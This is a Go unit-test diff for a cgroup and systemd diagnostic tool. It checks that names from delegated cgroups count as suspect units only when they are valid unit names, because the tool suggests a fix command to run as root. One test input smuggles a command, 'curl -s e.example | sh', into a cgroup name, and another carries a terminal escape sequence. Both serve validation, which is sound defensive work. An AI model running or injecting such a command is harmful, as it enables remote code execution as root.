@@ -118,3 +118,24 @@ func TestSuspectOrder(t *testing.T) {
 	assert.Equal(t, "other.service", unit, "hybrid: the unified hierarchy is not asked")
 	assert.Contains(t, why, "track the zombie growth")
 }
+
+// TestSuspectFromCgroupNameIsAUnit: a delegated subtree's owner may name
+// a cgroup anything; its name is the suspect, whose fix command is shown
+// to be run as root, only when it is a valid unit name.
+func TestSuspectFromCgroupNameIsAUnit(t *testing.T) {
+	s := &Systemd{CrashLooping: []string{}, ContainerPerRestart: []string{}}
+	var tr tracker
+	tr.add(5, map[string]int{"other.service": 5})
+	for _, leaking := range []string{
+		"user.slice/user-1000.slice/user@1000.service/x; curl -s e.example | sh; .service",
+		"user.slice/user-1000.slice/user@1000.service/\x1b[2J.scope",
+		"user.slice/user-1000.slice/user@1000.service/a.b",
+	} {
+		c := &Cgroups{Memory: &cgroup.Memory{Version: 2}, Unified: &cgroup.Unified{Dying: 9, Leaking: leaking}}
+		unit, _ := suspect(c, s, &tr)
+		assert.Equal(t, "other.service", unit, "%q is no unit", leaking)
+	}
+	c := &Cgroups{Memory: &cgroup.Memory{Version: 2}, Unified: &cgroup.Unified{Dying: 9, Leaking: "system.slice/docker-0a1b.scope"}}
+	unit, _ := suspect(c, s, &tr)
+	assert.Equal(t, "docker-0a1b.scope", unit)
+}
